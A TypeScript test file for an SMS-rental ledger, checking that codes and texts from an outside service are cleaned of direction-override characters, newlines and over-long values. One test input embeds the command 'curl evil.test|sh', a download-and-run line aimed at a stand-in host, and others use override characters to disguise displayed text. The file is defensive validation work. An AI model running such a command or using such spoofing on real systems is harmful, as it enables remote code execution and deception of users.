/** Texts from outside as the ledger takes them in: they are shown and copied so. */
import * as v from 'valibot';
import { describe, expect, it } from 'vitest';
import { cleanSms, withinBounds } from '../../../../main/rentals/ledger/bounds.ts';
import { entriesSchema } from '../../../../main/rentals/ledger/entry-schema.ts';
import { addIncoming } from '../../../../main/rentals/watching/record-sms.ts';
import type { ReceivedSms } from '../../../../main/rentium/index.ts';
import { codeOf, entryOf, rentalOf, shownSmsOf as smsOf } from '../../../support/rentals.ts';

const received = (parts: Partial<ReceivedSms>): ReceivedSms => ({
  id: 'sms_1' as ReceivedSms['id'], // Branded: it stands for the service's own.
  sender: 'Bank',
  text: 'hello',
  code: null,
  receivedAtMs: null,
  ...parts,
});
const keptCode = (parts: Partial<ReceivedSms>) =>
  addIncoming(rentalOf(), [received(parts)], 1_000).rental.sms[0]?.code?.value ?? null;

describe('a code of the service', () => {
  it.each(['\u202e654321', 'curl evil.test|sh\necho 1234', '1'.repeat(3_000)])(
    'that is not what it looks like is none: %j',
    (code) => expect(keptCode({ code })).toBeNull(),
  );

  it('that is none leaves the code of the text', () => {
    expect(keptCode({ code: '\u202e654321', text: 'Your code is 849201' })).toBe('849201');
  });
});

it('a sender is one line, a text turns nothing', () => {
  const kept = withinBounds(received({ sender: 'A\u202e\nB', text: '1\u202e2\r\n3' }));
  expect(kept).toMatchObject({ sender: 'A B', text: '12\n3' });
});

it('what an earlier version kept is cleaned when it is read', () => {
  const dirty = entryOf({
    order: {
      service: { id: 'wa', name: 'Whats\u202eApp' },
      country: { id: 'us', name: 'United\nStates' },
      operator: { id: 'any', name: 'Any \u202e05.0$' },
    },
    sms: [smsOf({ sender: '\u202eBank', text: 'x\u202e1234', code: codeOf('\u202e4321') })],
  });
  const [entry] = v.parse(entriesSchema, JSON.parse(JSON.stringify({ entries: [dirty] }))).entries;
  expect(entry?.rental).toMatchObject({
    order: {
      service: { name: 'WhatsApp' },
      country: { name: 'United States' },
      operator: { name: 'Any 05.0$' },
    },
    sms: [{ sender: 'Bank', text: 'x1234', code: null }],
  });
});

it('what is clean stays the same object', () => {
  const sms = smsOf({ code: codeOf('849201') });
  expect(cleanSms(sms)).toBe(sms);
});
